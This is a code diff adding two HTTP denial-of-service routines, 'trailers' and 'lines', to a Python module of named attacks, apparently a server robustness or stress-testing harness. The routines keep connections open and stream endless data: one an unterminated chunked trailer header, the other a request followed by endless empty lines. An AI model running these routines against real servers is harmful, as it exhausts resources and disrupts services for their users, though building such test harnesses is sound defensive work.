@@ -270,10 +270,33 @@ def heads(attack: Attack) -> None:
                 attack.said["bytes"] += PORTION
 
 
+def trailers(attack: Attack) -> None:
+    """What follows a body in chunks, and never ends."""
+    head = f"POST / HTTP/1.1\r\nHost: {attack.where[0]}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
+    while attack.on():
+        with attack.until_cut(), attack.connect() as wire:
+            wire.sendall(head + b"1\r\n \r\n0\r\nx: ")
+            while attack.on():
+                wire.sendall(b"a" * PORTION)
+                attack.said["bytes"] += PORTION
+
+
+def lines(attack: Attack) -> None:
+    """A request, and empty lines after it."""
+    while attack.on():
+        with attack.until_cut(), attack.connect() as wire:
+            wire.sendall(f"GET /health HTTP/1.1\r\nHost: {attack.where[0]}\r\n\r\n".encode())
+            wire.recv(1 << 16)
+            while attack.on():
+                wire.sendall(b"\r\n" * (PORTION // 2))
+                attack.said["bytes"] += PORTION
+
+
 KINDS: dict[str, Callable[[Attack], None]] = {
     attack.__name__: attack
     for attack in (
-        nothing, pings, pongs, fragments, messages, syncs, crumbs, openings, chunks, halves, pipelines, heads
+        nothing, pings, pongs, fragments, messages, syncs, crumbs, openings, chunks, halves, pipelines, heads,
+        trailers, lines,
     )
 }  # fmt: skip
 
